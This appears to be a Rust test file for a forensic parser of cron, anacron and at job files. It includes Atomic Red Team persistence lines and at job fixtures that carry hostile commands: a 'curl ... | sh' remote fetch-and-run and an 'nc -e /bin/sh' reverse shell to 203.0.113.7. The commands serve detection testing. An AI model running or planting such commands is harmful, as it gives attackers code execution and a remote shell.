use super::*;

fn fixture(rel: &str) -> Vec<u8> {
    let p = format!("{}/../shared/fixtures/{}", env!("CARGO_MANIFEST_DIR"), rel);
    std::fs::read(&p).unwrap_or_else(|e| panic!("read {p}: {e}"))
}

fn fields(e: &CronEntry) -> (&str, &str, &str, &str, &str) {
    match &e.schedule {
        CronSchedule::Fields {
            minute,
            hour,
            day_of_month,
            month,
            day_of_week,
        } => (minute, hour, day_of_month, month, day_of_week),
        other => panic!("expected fields, got {other:?}"),
    }
}

#[test]
fn debian_etc_crontab() {
    let p = parse_crontab(&fixture("linux/etc/crontab"), CrontabKind::System);
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
    // SOURCES.md: 6 non-comment lines = 2 env + 4 jobs.
    assert_eq!(p.environment.len(), 2);
    assert_eq!(p.entries.len(), 4);
    assert_eq!(p.environment[0].name, "SHELL");
    assert_eq!(p.environment[0].value, "/bin/sh");
    assert_eq!(p.environment[0].line_number, 7);
    let monthly = &p.entries[3];
    assert_eq!(fields(monthly), ("52", "6", "1", "*", "*"));
    assert_eq!(monthly.user.as_deref(), Some("root"));
    assert_eq!(
        monthly.command,
        "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }"
    );
    assert!(monthly.raw.starts_with("52 6\t1 * *\troot\t"));
    assert_eq!(monthly.stdin, None);
    let hourly = &p.entries[0];
    assert_eq!(hourly.line_number, 18);
    assert_eq!(
        hourly.command,
        "cd / && run-parts --report /etc/cron.hourly"
    );
    assert_eq!(fields(&p.entries[2]).4, "7");
    let names: Vec<&str> = hourly.environment.iter().map(|v| v.name.as_str()).collect();
    assert_eq!(names, ["SHELL", "PATH"]);
}

#[test]
fn debian_cron_d_files() {
    let p = parse_crontab(&fixture("linux/etc/cron.d/anacron"), CrontabKind::System);
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
    assert_eq!(p.environment.len() + p.entries.len(), 3);
    assert_eq!(p.entries.len(), 1);
    let e = &p.entries[0];
    assert_eq!(fields(e), ("30", "7-23", "*", "*", "*"));
    assert_eq!(e.user.as_deref(), Some("root"));
    assert!(
        e.command
            .starts_with("[ -x /etc/init.d/anacron ] && if [ ! -d /run/systemd/system ]; then /")
    );

    let p = parse_crontab(
        &fixture("linux/etc/cron.d/e2scrub_all"),
        CrontabKind::System,
    );
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
    assert_eq!(p.entries.len(), 2);
    assert_eq!(
        p.entries[1].command,
        "test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r"
    );
    assert!(p.entries[1].environment.is_empty());

    let p = parse_crontab(&fixture("linux/etc/cron.d/sysstat"), CrontabKind::System);
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
    assert_eq!(p.environment.len() + p.entries.len(), 3);
    assert_eq!(fields(&p.entries[0]).0, "5-55/10");
    assert_eq!(
        p.entries[1].command,
        "command -v debian-sa1 > /dev/null && debian-sa1 60 2"
    );
    assert_eq!(p.entries[1].environment[0].name, "PATH");
    assert!(
        p.entries[1].environment[0]
            .value
            .starts_with("/usr/lib/sysstat:")
    );
}

#[test]
fn debian_anacrontab() {
    let p = parse_anacrontab(&fixture("linux/etc/anacrontab"));
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
    // SOURCES.md: 7 non-comment lines = 4 env + 3 jobs.
    assert_eq!(p.environment.len(), 4);
    assert_eq!(p.jobs.len(), 3);
    assert_eq!(p.jobs[0].period, AnacronPeriod::Days(1));
    assert_eq!(p.jobs[0].delay_minutes, Some(5));
    assert_eq!(p.jobs[0].job_identifier, "cron.daily");
    let m = &p.jobs[2];
    assert_eq!(m.period, AnacronPeriod::Monthly);
    assert_eq!(m.delay_minutes, Some(15));
    assert_eq!(m.job_identifier, "cron.monthly");
    assert_eq!(m.command, "run-parts --report /etc/cron.monthly");
    assert_eq!(m.environment.len(), 4);
    assert_eq!(m.environment[2].name, "HOME");
}

#[test]
fn anacron_env_and_bad_fields() {
    let t = b"START_HOURS_RANGE=3-22\nRANDOM_DELAY = 45\nx 5 id cmd\n1 y id2 cmd2\n1 2\n";
    let p = parse_anacrontab(t);
    assert_eq!(p.environment[0].value, "3-22");
    assert_eq!(p.environment[1].name, "RANDOM_DELAY");
    assert_eq!(p.environment[1].value, " 45");
    assert_eq!(p.jobs.len(), 2);
    assert_eq!(p.jobs[0].period, AnacronPeriod::Other("x".into()));
    assert_eq!(p.jobs[1].delay_minutes, None);
    assert_eq!(p.warnings.len(), 3, "{:?}", p.warnings);
}

/// Command lines from Atomic Red Team T1053.003 with their default arguments substituted.
#[test]
fn atomic_t1053_003_lines() {
    let yaml = String::from_utf8(fixture("atomics/T1053.003.yaml")).unwrap();
    // Test 1 writes `* * * * * #{command}` with command default /tmp/evil.sh into a user crontab.
    assert!(yaml.contains("echo \"* * * * * #{command}\" > #{tmp_cron}"));
    assert!(yaml.contains("default: /tmp/evil.sh"));
    let p = parse_crontab(b"* * * * * /tmp/evil.sh\n", CrontabKind::User);
    assert_eq!(p.entries.len(), 1);
    assert_eq!(p.entries[0].command, "/tmp/evil.sh");
    assert_eq!(p.entries[0].user, None);
    assert_eq!(fields(&p.entries[0]), ("*", "*", "*", "*", "*"));

    // Test 3's default command is itself a cron.d line.
    let line =
        "*/5     *       *       *       *       root    echo \"Hello from Atomic Red Team\"";
    assert!(yaml.contains(line));
    let p = parse_crontab(line.as_bytes(), CrontabKind::System);
    assert!(p.warnings.is_empty());
    assert_eq!(fields(&p.entries[0]).0, "*/5");
    assert_eq!(p.entries[0].user.as_deref(), Some("root"));
    assert_eq!(p.entries[0].command, "echo \"Hello from Atomic Red Team\"");

    // Test 4 appends the bare command (no schedule) to /var/spool/cron/crontabs/persistevil:
    // cron rejects it; we must warn, not panic, and keep the text.
    let bad = "echo 'Hello from Atomic Red Team' > /tmp/atomic.log";
    assert!(yaml.contains(&format!("default: {bad}")));
    let p = parse_crontab(bad.as_bytes(), CrontabKind::User);
    // Right field count, so it is an entry, with a warning for every nonsense time field.
    assert_eq!(p.entries.len(), 1);
    assert_eq!(p.entries[0].command, "Team' > /tmp/atomic.log");
    assert_eq!(p.warnings.len(), 5);
    assert!(matches!(&p.warnings[0], CronWarning::InvalidField { field, .. } if field == "minute"));
}

#[test]
fn percent_and_env_quoting() {
    let t = b"MAILTO = \"ops@example.com\"\nX=' padded '\n@reboot root /bin/echo 50\\% done%line1%line2\n0 0 * JAN,jul mon-fri root date +\\%F\n";
    let p = parse_crontab(t, CrontabKind::System);
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
    assert_eq!(p.environment[0].name, "MAILTO");
    assert_eq!(p.environment[0].value, "ops@example.com");
    assert_eq!(p.environment[1].value, " padded ");
    let e = &p.entries[0];
    assert_eq!(e.schedule, CronSchedule::Special(CronSpecial::Reboot));
    assert_eq!(e.command, "/bin/echo 50% done");
    assert_eq!(e.stdin.as_deref(), Some("line1\nline2"));
    assert_eq!(p.entries[1].command, "date +%F");
    assert_eq!(p.entries[1].environment.len(), 2);
    let json = serde_json::to_string(&p).unwrap();
    assert!(json.contains("\"special\":\"reboot\""));
}

#[test]
fn user_crontab_specials_and_invalid_fields() {
    let t = b"# DO NOT EDIT THIS FILE\r\n@annually /a\r\n@midnight /b\r\n@every5 /c\r\n61 * * * * /d\r\n* * * foo * /e\r\n*/0 * * * * /f\r\n";
    let p = parse_crontab(t, CrontabKind::User);
    assert_eq!(p.entries.len(), 6);
    assert_eq!(
        p.entries[0].schedule,
        CronSchedule::Special(CronSpecial::Yearly)
    );
    assert_eq!(p.entries[0].command, "/a");
    assert!(!p.entries[0].raw.ends_with('\r'));
    assert_eq!(
        p.entries[1].schedule,
        CronSchedule::Special(CronSpecial::Daily)
    );
    assert_eq!(p.warnings.len(), 4, "{:?}", p.warnings);
    assert!(matches!(
        p.warnings[0],
        CronWarning::UnknownSpecial { line: 4, .. }
    ));
    assert!(matches!(
        p.warnings[1],
        CronWarning::InvalidField { line: 5, .. }
    ));
}

#[test]
fn hostile_crontab_inputs() {
    // Binary garbage, NUL bytes and invalid UTF-8.
    let mut garbage: Vec<u8> = (0..4096u32)
        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
        .collect();
    garbage.extend_from_slice(b"\n* * * * * root /tmp/\xff\xfe\x00x\n");
    let p = parse_crontab(&garbage, CrontabKind::System);
    assert!(p.lossy_utf8);
    let last = p.entries.last().unwrap();
    assert!(last.lossy_utf8);
    assert!(last.command.starts_with("/tmp/\u{fffd}"));
    assert!(
        p.warnings
            .iter()
            .any(|w| matches!(w, CronWarning::NulByte { .. }))
    );

    // 5 MB single line.
    let mut big = b"* * * * * root ".to_vec();
    big.extend(std::iter::repeat_n(b'A', 5 * 1024 * 1024));
    let p = parse_crontab(&big, CrontabKind::System);
    assert_eq!(p.entries[0].command.len(), 5 * 1024 * 1024);

    // Unterminated quote in env, too few fields.
    let p = parse_crontab(b"FOO=\"abc\n* * *\n* * * * * root\n", CrontabKind::System);
    assert!(p.entries.is_empty());
    assert_eq!(p.warnings.len(), 3, "{:?}", p.warnings);

    // Huge env × many entries stays bounded.
    let mut t = format!("BIG={}\n", "x".repeat(1 << 20)).into_bytes();
    for _ in 0..64 {
        t.extend_from_slice(b"* * * * * /x\n");
    }
    let p = parse_crontab(&t, CrontabKind::User);
    assert_eq!(p.entries.len(), 64);
    assert!(p.entries.last().unwrap().environment_truncated);

    // Many bad lines: warnings are capped.
    let t = "x\n".repeat(5000);
    let p = parse_crontab(t.as_bytes(), CrontabKind::User);
    assert_eq!(p.warnings.len(), MAX_WARNINGS);
    assert_eq!(p.warnings_suppressed, 4000);

    let p = parse_anacrontab(&garbage);
    assert!(p.lossy_utf8);
}

/// A job file in the layout at 3.2 (Debian) writes; values and the cd path carry at's escaping.
const AT_JOB: &str = "#!/bin/sh\n\
# atrun uid=1000 gid=1000\n\
# mail alice 0\n\
umask 22\n\
SHELL=/bin/bash; export SHELL\n\
SSH_CLIENT=192.168.56.1\\ 51234\\ 22; export SSH_CLIENT\n\
PWD=/home/alice/my\\ dir; export PWD\n\
LANG=en_US.UTF-8; export LANG\n\
PATH=/usr/local/bin:/usr/bin:/bin; export PATH\n\
cd /home/alice/my\\ dir || {\n\
\t echo 'Execution directory inaccessible' >&2\n\
\t exit 1\n\
}\n\
${SHELL:-/bin/sh} << 'marcinDELIMITER5b0e6c3a'\n\
curl -s http://203.0.113.7/x.sh | sh\n\
rm -f /tmp/.x\n\
\n\
marcinDELIMITER5b0e6c3a\n";

#[test]
fn at_job_debian_layout() {
    let j = parse_at_job(AT_JOB.as_bytes());
    assert!(j.warnings.is_empty(), "{:?}", j.warnings);
    assert_eq!(j.shebang.as_deref(), Some("/bin/sh"));
    assert_eq!((j.uid, j.gid), (Some(1000), Some(1000)));
    assert_eq!(j.mail_user.as_deref(), Some("alice"));
    assert_eq!(j.mail_always, Some(false));
    assert_eq!(j.umask.as_deref(), Some("22"));
    assert_eq!(j.working_directory.as_deref(), Some("/home/alice/my dir"));
    assert_eq!(j.environment.len(), 5);
    assert_eq!(j.environment[1].value, "192.168.56.1 51234 22");
    assert_eq!(j.delimiter.as_deref(), Some("marcinDELIMITER5b0e6c3a"));
    assert_eq!(
        j.command,
        "curl -s http://203.0.113.7/x.sh | sh\nrm -f /tmp/.x\n"
    );
    assert_eq!(j.command_line_number, Some(15));
    assert_eq!(j.header_lines.len(), 14);
    assert_eq!(j.trailing, None);
}

#[test]
fn at_job_tampered_and_hostile() {
    // Commands appended after the delimiter still run: flag them.
    let t = format!("{AT_JOB}nc -e /bin/sh 203.0.113.7 4444\n");
    let j = parse_at_job(t.as_bytes());
    assert_eq!(
        j.trailing.as_deref(),
        Some("nc -e /bin/sh 203.0.113.7 4444")
    );
    assert!(matches!(
        j.warnings[0],
        AtWarning::TrailingCommands { line: 19, .. }
    ));

    // Truncated before the delimiter closes.
    let cut = AT_JOB.get(..AT_JOB.len() - 30).unwrap();
    let j = parse_at_job(cut.as_bytes());
    assert!(
        j.warnings
            .iter()
            .any(|w| matches!(w, AtWarning::UnterminatedHeredoc { .. }))
    );
    assert!(j.command.starts_with("curl -s"));

    // Older layout without a here-document, CRLF endings.
    let old = "#!/bin/sh\r\n# atrun uid=0 gid=0\r\n# mail root 1\r\numask 22\r\ncd /root || {\r\n\t echo 'Execution directory inaccessible' >&2\r\n\t exit 1\r\n}\r\n/usr/bin/id > /tmp/o\r\n";
    let j = parse_at_job(old.as_bytes());
    assert!(j.warnings.is_empty(), "{:?}", j.warnings);
    assert_eq!(j.mail_always, Some(true));
    assert_eq!(j.command, "/usr/bin/id > /tmp/o");
    assert_eq!(j.working_directory.as_deref(), Some("/root"));

    // Garbage: no header, no commands section.
    let j = parse_at_job(b"\xff\xfe\x00garbage\nmore");
    assert!(j.lossy_utf8);
    assert!(
        j.warnings
            .iter()
            .any(|w| matches!(w, AtWarning::NoCommandSection))
    );
    assert!(
        j.warnings
            .iter()
            .any(|w| matches!(w, AtWarning::MissingAtrunHeader))
    );
    let j = parse_at_job(b"");
    assert!(j.command.is_empty());
}

#[test]
fn at_filenames() {
    let (q, n, t) = parse_at_filename("a0000201a3b4c5").unwrap();
    assert_eq!((q, n), ('a', 2));
    assert_eq!(t.timestamp(), 0x01a3_b4c5 * 60);
    // From a RHEL spool listing: job 3 run at Sat Oct 26 16:30 2019 CST (+08:00).
    let (q, n, t) = parse_at_filename("/var/spool/at/a00003018fccde").unwrap();
    assert_eq!((q, n), ('a', 3));
    assert_eq!(t.to_rfc3339(), "2019-10-26T08:30:00+00:00");
    assert_eq!(parse_at_filename("=00003018fccde").map(|x| x.0), Some('='));
    assert!(parse_at_filename(".SEQ").is_none());
    assert!(parse_at_filename("a0000g01a3b4c5").is_none());
    assert!(parse_at_filename("é000201a3b4c5").is_none());
    assert!(parse_at_filename("affffffffffffff").is_none());
    assert!(parse_at_filename("afffffffffffff").is_some());
}
